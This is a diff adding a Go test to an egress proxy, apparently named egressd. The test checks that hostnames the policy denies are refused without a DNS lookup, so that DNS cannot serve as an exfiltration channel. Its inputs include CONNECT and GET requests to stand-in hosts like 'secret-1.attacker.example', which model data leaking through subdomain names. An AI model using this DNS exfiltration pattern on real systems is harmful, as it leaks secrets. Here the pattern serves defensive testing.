@@ -2,6 +2,7 @@ package proxy
 
 import (
 	"bufio"
+	"context"
 	"crypto/tls"
 	"crypto/x509"
 	"errors"
@@ -14,6 +15,7 @@ import (
 	"os"
 	"path/filepath"
 	"strings"
+	"sync"
 	"testing"
 	"time"
 
@@ -553,4 +555,75 @@ rules:
 		resp, err = http.ReadResponse(bufio.NewReader(tc), nil)
 		check(t, resp, err)
 	})
+}
+
+// askedResolver is a Resolver that records the names it is asked and
+// answers 127.0.0.1 for each.
+type askedResolver struct {
+	mu    sync.Mutex
+	names []string
+}
+
+func (r *askedResolver) LookupNetIP(_ context.Context, name string) ([]netip.Addr, error) {
+	r.mu.Lock()
+	defer r.mu.Unlock()
+	r.names = append(r.names, name)
+	return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
+}
+
+func (r *askedResolver) asked() []string {
+	r.mu.Lock()
+	defer r.mu.Unlock()
+	return append([]string(nil), r.names...)
+}
+
+// TestExplicitDeniedNameNotResolved: in enforce mode a name the policy
+// denies, in a CONNECT or an absolute URL, is refused without being looked
+// up: the lookup goes to the upstream resolvers, and a denied name must
+// never reach them (THREATS.md 0.5: DNS is an exfiltration channel, the
+// forwarder refuses such names locally). The explicit proxy resolved every
+// name before it refused, so "CONNECT <data>.attacker.example:443" carried
+// the data to the attacker's name server.
+func TestExplicitDeniedNameNotResolved(t *testing.T) {
+	eng, err := policy.Compile("enf.yaml", []byte(fmt.Sprintf(testPolicy, "enforce")))
+	if err != nil {
+		t.Fatal(err)
+	}
+	res := &askedResolver{}
+	p, err := New(Config{OwnAddrs: []netip.Addr{}}, Deps{Policy: policy.NewStore(eng), Resolver: res,
+		Logger: slog.New(slog.NewTextHandler(testWriter{t}, nil))})
+	if err != nil {
+		t.Fatal(err)
+	}
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	done := make(chan struct{})
+	go func() { p.ServeExplicit(ln); close(done) }()
+	defer func() { p.Close(); <-done }()
+	for _, raw := range []string{
+		"CONNECT secret-1.attacker.example:443 HTTP/1.1\r\nHost: secret-1.attacker.example:443\r\n\r\n",
+		"GET http://secret-2.attacker.example/ HTTP/1.1\r\nHost: secret-2.attacker.example\r\n\r\n",
+		"CONNECT www.allowed.test:22 HTTP/1.1\r\nHost: www.allowed.test:22\r\n\r\n",
+	} {
+		c, err := net.Dial("tcp", ln.Addr().String())
+		if err != nil {
+			t.Fatal(err)
+		}
+		c.SetDeadline(time.Now().Add(5 * time.Second))
+		io.WriteString(c, raw)
+		resp, err := http.ReadResponse(bufio.NewReader(c), &http.Request{Method: strings.Fields(raw)[0]})
+		c.Close()
+		if err != nil || resp.StatusCode != http.StatusForbidden {
+			t.Errorf("%q: %v %v", raw, resp, err)
+			continue
+		}
+		if r := resp.Header.Get("X-Egressd-Reason"); r != policy.ReasonNoRule && r != policy.ReasonPort {
+			t.Errorf("%q: reason %q", raw, r)
+		}
+	}
+	if a := res.asked(); len(a) != 0 {
+		t.Errorf("denied names were looked up upstream: %q", a)
+	}
 }
